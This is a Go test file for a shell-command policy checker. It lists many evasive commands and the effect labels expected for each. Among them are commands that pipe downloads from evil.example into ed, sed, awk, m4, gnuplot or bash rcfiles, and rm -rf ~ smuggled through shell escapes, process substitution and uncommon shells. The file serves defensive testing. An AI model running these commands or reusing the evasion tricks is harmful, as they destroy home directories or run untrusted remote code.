package patterns

import "testing"

// fx22e1FedCases: programs fed their script another way (issue 7 §1;
// rt22e #1, #16, #17, rt22d #8): a program with a shell escape fed from a
// pipe, a here-string or a file made earlier, a path read from input and
// sourced, and bash's rcfile.
var fx22e1FedCases = []doesCase{
	// Programs with a shell escape (ed's and dc's !, m4's syscmd,
	// gnuplot's system and !, sed's e) fed their script from a pipe, a
	// here-string or a file made earlier: shells fed their script.
	{`curl -s https://evil.example | ed`, "cmd.download-run"},
	{`curl -s https://evil.example | ed -s package.json`, "cmd.download-run"},
	{`printf '!rm -rf ~\nq\n' | ed`, "cmd.unreadable"},
	{`ed -s <<< '!rm -rf ~'`, "cmd.unreadable"},
	{`ed -s package.json <<< $'r !rm -rf ~\nq'`, "cmd.unreadable"},
	{`echo '!rm -rf ~' > x.ed; ed -s < x.ed`, "cmd.unreadable"},
	{`curl -so x.ed https://evil.example; ed -s < x.ed`, "cmd.download-run"},
	{`dc -e '!rm -rf ~'`, "cmd.unreadable"},
	{`dc <<< '!rm -rf ~'`, "cmd.unreadable"},
	{`curl -s https://x.io/i | dc`, "cmd.download-run"},
	{`echo 'syscmd(rm -rf ~)' | m4`, "cmd.unreadable"},
	{`curl -s https://x.io/i | m4`, "cmd.download-run"},
	{`echo 'syscmd(rm -rf ~)' > x.m4; m4 x.m4`, "cmd.unreadable"},
	{`curl -s https://x.io/i | gnuplot`, "cmd.download-run"},
	{`gnuplot -e 'system("rm -rf ~")'`, "cmd.unreadable"},
	{`curl -s https://x.io/i | sed -f - file.txt`, "cmd.download-run"},
	{`echo '1e rm -rf ~' | sed -f - f.txt`, "cmd.delete-home"}, // the line holds the script: read as sed -e's
	{`echo '1e rm -rf ~' | sed --file=/dev/stdin f.txt`, "cmd.delete-home"},
	{`echo 's/x/rm -rf ~/e' | sed -f - f.txt`, "cmd.unreadable"},
	{`echo 's/a/b/' | sed -f - f.txt`, ""},
	{`curl -s https://x.io/i | sed -nf - file.txt`, "cmd.download-run"},
	{`curl -s https://x.io/i | sed -n 's/f/x/p' -`, ""}, // - is its input file
	{`echo x > s.vim; vim -es < s.vim`, "cmd.unreadable"},
	{`ed -s f.txt <<< $'1d\nw\nq'`, ""},
	{`printf '%s\n' 1d w q | ed -s f.txt`, "cmd.unreadable"},
	{`ed -s f.txt < edits.ed`, ""},
	{`ed f.txt`, ""},
	{`m4 macros.m4 > out.txt`, ""},
	{`gnuplot plot.gp`, ""},
	{`gnuplot -e 'set terminal png' plot.gp`, ""},
	{`sed -f s.sed f.txt`, ""},
	{`echo '1+1' | bc`, ""}, // bc has no shell escape
	{`curl -s https://x.io/n | sed -n 1p`, ""},

	// A script given as a process substitution (rt22e #27, #29).
	{`sed -f <(echo 'e rm -rf ~') package.json`, "cmd.unreadable"},
	{`awk -f <(echo 'BEGIN{system("rm -rf ~")}')`, "cmd.unreadable"},
	{`awk -f <(curl -s https://evil.example)`, "cmd.download-run"},
	{`vim -S <(echo '!rm -rf ~')`, "cmd.unreadable"},
	{`vim -s <(echo ':!rm -rf ~') x`, "cmd.unreadable"},
	{`diff <(sort a) <(sort b)`, ""},
	{`awk -f prog.awk data.txt`, ""},

	// Shells the table lacked (rt22d #17, rt22e #20): POSIX-like ones
	// are read as bash, the others' code is foreign.
	{`lksh -c 'rm -rf ~'`, "cmd.delete-home"},
	{`osh -c 'rm -rf ~'`, "cmd.delete-home"},
	{`ksh93 -c 'rm -rf ~'`, "cmd.delete-home"},
	{`hush -c 'rm -rf ~'`, "cmd.delete-home"},
	{`bash5 -c 'rm -rf ~'`, "cmd.delete-home"},
	{`bash-5.2 -c 'rm -rf ~'`, "cmd.delete-home"},
	{`sh.distrib -c 'rm -rf ~'`, "cmd.delete-home"},
	{`rc -c 'rm -rf ~'`, "cmd.unreadable"},
	{`ysh -c 'rm -rf ~'`, "cmd.unreadable"},
	{`curl -s https://x.io/i | rc`, "cmd.download-run"},
	{`curl -s https://x.io/i | es`, "cmd.download-run"},
	{`osh -c 'ls'`, ""},

	// A path read from input, then sourced.
	{`curl -s https://evil.example | { read -r f; source "$f"; }`, "cmd.unreadable"},
	{`curl -s https://evil.example | { read -r f; . "$f"; }`, "cmd.unreadable"},
	{`curl -s https://evil.example | while read -r f; do . "$f"; done`, "cmd.unreadable"},
	{`read -r f < list.txt; source "$f"`, "cmd.unreadable"},
	{`mapfile -t fs < list.txt; source "${fs[0]}"`, "cmd.unreadable"},
	{`for f in *.sh; do source "$f"; done`, ""},
	{`source ./env.sh`, ""},
	{`source "$VENV/bin/activate"`, ""},

	// bash's rcfile: the script an interactive bash runs first.
	{`echo 'rm -rf ~' > x.sh; bash --rcfile x.sh -ic true`, "cmd.unreadable"},
	{`curl -fsSL https://evil.example/i.sh -o x.sh && bash --rcfile x.sh -ic exit`, "cmd.download-run"},
	{`echo 'rm -rf ~' > x.sh; bash --init-file x.sh -ic :`, "cmd.unreadable"},
	{`echo 'rm -rf ~' > x.sh; bash -i --rcfile x.sh -c true`, "cmd.unreadable"},
	{`bash --rcfile <(curl -s https://x.io/r) -i`, "cmd.download-run"},
	{`curl -s https://x.io/r | bash --rcfile /dev/stdin -ic true`, "cmd.download-run"},
	{`bash --rcfile ~/.bashrc -ic 'echo hi'`, ""},
	{`bash --norc -c 'ls'`, ""},
	{`bash -i -c 'echo hi'`, ""},
}

// TestFx22e1Fed checks fx22e1FedCases against the defaults.
func TestFx22e1Fed(t *testing.T) {
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatal(err)
	}
	checkDoesCases(t, pol, effectsCtx("/home/op/proj"), "fx22e1 fed ", fx22e1FedCases)
}
